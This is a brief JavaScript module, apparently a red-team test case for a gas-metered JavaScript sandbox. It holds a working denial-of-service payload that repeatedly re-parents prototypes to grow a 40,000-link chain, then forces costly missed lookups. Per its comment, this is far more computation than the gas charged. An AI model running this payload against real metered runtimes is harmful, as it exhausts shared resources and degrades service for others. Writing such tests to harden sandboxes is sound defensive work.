// Threat: setPrototypeOf checks the chain above the new prototype, not
// the objects below the one re-parented: giving the top of a chain a fresh
// prototype, again and again, grows the chain below by a link each time
// (red team round 41: 40,000 links, then 20,000 missed lookups, 2.56 s for
// ~720,000 gas).
class PrototypeChainByReparenting {
  init() {}

  attack() {
    const bottom = {};
    let top = bottom;
    for (let i = 0; i < 40000; i++) {
      const next = {};
      Object.setPrototypeOf(top, next);
      top = next;
    }
    let found = 0;
    for (let i = 0; i < 20000; i++) if (bottom['k' + i] !== undefined) found++;
    return found;
  }
}

module.exports = PrototypeChainByReparenting;
